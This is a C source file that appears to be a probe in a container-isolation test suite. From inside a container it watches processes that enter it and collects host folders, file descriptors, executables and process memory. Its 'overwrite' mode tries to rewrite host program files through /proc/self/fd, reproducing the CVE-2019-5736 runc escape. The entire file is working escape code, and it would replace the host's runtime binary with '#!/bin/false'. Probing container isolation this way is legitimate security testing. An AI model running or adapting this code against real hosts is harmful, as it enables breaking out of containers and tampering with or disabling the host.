/*
 * watch SECONDS [overwrite]: sits in the container and reaches for every process that appears
 * beside it, which prov's are for a moment while they enter: for their program, folders,
 * descriptors, memory and namespaces. What lies on another file system than all that the container
 * has is the host's. It lasts that long, and longer until it has seen 20 of them, five minutes at
 * most. With "overwrite" it lasts until the file /enough exists, and then also tries to write into
 * the programs, as CVE-2019-5736 did.
 */
#include "attack.h"

#include <dirent.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_OWN 256

static dev_t own[MAX_OWN];
static size_t n_own;

/* Devices of all that is mounted here. */
static void learn_own(void)
{
	char line[4096], path[2048];
	struct stat st;
	FILE *f = fopen("/proc/self/mountinfo", "r");

	while (f && fgets(line, sizeof(line), f))
		if (sscanf(line, "%*d %*d %*s %*s %2047s", path) == 1 && stat(path, &st) == 0 &&
		        n_own < MAX_OWN)
			own[n_own++] = st.st_dev;
	if (f)
		fclose(f);
}

static int is_foreign(const char *path)
{
	struct stat st;

	if (stat(path, &st) < 0 || S_ISFIFO(st.st_mode) || S_ISSOCK(st.st_mode) ||
	        S_ISCHR(st.st_mode))
		return 0;
	for (size_t i = 0; i < n_own; i++)
		if (own[i] == st.st_dev)
			return 0;
	return 1;
}

static unsigned long seen, programs, folders;

/* A descriptor of it outlives all that run it, and with them the kernel's refusal to write a
 * program that runs. */
static int kept[64];
static size_t n_kept;

static void keep_program(const char *path)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);

	if (fd < 0)
		return;
	programs++;
	if (n_kept < 64)
		kept[n_kept++] = fd;
	else
		close(fd);
}

/* Two seconds in which nobody needs to come. */
static void overwrite_programs(void)
{
	char again[64];

	for (size_t i = 0, round = 0; n_kept && round < 2000; i = (i + 1) % n_kept, round++) {
		snprintf(again, sizeof(again), "/proc/self/fd/%d", kept[i]);
		int out = open(again, O_WRONLY | O_CLOEXEC);
		if (out >= 0) {
			got("program", "opened for writing");
			if (write(out, "#!/bin/false\n", 13) == 13)
				got("overwritten", "%zu", i);
			return;
		}
		if (round == 1999)
			no("program");
		usleep(1000);
	}
}

static void look_at_folder(int pid, const char *what)
{
	char path[64], target[256];

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, what);
	if (!is_foreign(path))
		return;
	ssize_t n = readlink(path, target, sizeof(target) - 1);
	target[n > 0 ? n : 0] = '\0';
	folders++;
	got("folder", "%s is %s", path, target);
}

static void look_at_descriptors(int pid)
{
	char path[64], name[300];
	struct dirent *e;

	snprintf(path, sizeof(path), "/proc/%d/fd", pid);
	DIR *dir = opendir(path);
	while (dir && (e = readdir(dir))) {
		if (*e->d_name == '.')
			continue;
		snprintf(name, sizeof(name), "fd/%s", e->d_name);
		look_at_folder(pid, name);
	}
	if (dir)
		closedir(dir);
}

static void look_at(int pid)
{
	static int told;
	char path[64], exe[64];

	snprintf(exe, sizeof(exe), "/proc/%d/exe", pid);
	if (is_foreign(exe))
		keep_program(exe);
	look_at_folder(pid, "cwd");
	look_at_folder(pid, "root");
	look_at_descriptors(pid);
	/* One that still has the host's program has the host's memory too. */
	if (!is_foreign(exe) || pid == 1)
		return;
	snprintf(path, sizeof(path), "/proc/%d/mem", pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	/* Still the host's now, so it was when the memory was opened. */
	if (fd >= 0 && told != pid && is_foreign(exe))
		got("memory", "of %d with the program of the host", told = pid);
	close(fd);
}

static bool has_enough(bool told)
{
	return told ? seen > 0 && access("/enough", F_OK) == 0 : seen >= 20;
}

int main(int argc, char **argv)
{
	struct timespec now;
	time_t end;
	int last = 0;

	not_on_a_host();
	learn_own();
	clock_gettime(CLOCK_MONOTONIC, &now);
	end = now.tv_sec + (argc > 1 ? atoi(argv[1]) : 3);
	look_at(1);
	puts("ready");
	fflush(stdout);
	while (now.tv_sec < end || (now.tv_sec < end + 300 && !has_enough(argc > 2))) {
		DIR *dir = opendir("/proc");
		struct dirent *e;
		while (dir && (e = readdir(dir))) {
			int pid = atoi(e->d_name);
			if (pid <= 1 || pid == getpid() || pid < last)
				continue;
			for (int i = 0; i < 3; i++)
				look_at(pid);
			seen += pid > last;
			last = pid;
		}
		if (dir)
			closedir(dir);
		clock_gettime(CLOCK_MONOTONIC, &now);
	}
	printf("seen %lu processes, %lu programs of the host, %lu folders\n", seen, programs,
	        folders);
	if (!folders)
		puts("no folder of the host");
	if (argc > 2)
		overwrite_programs();
	puts("end");
	return 0;
}
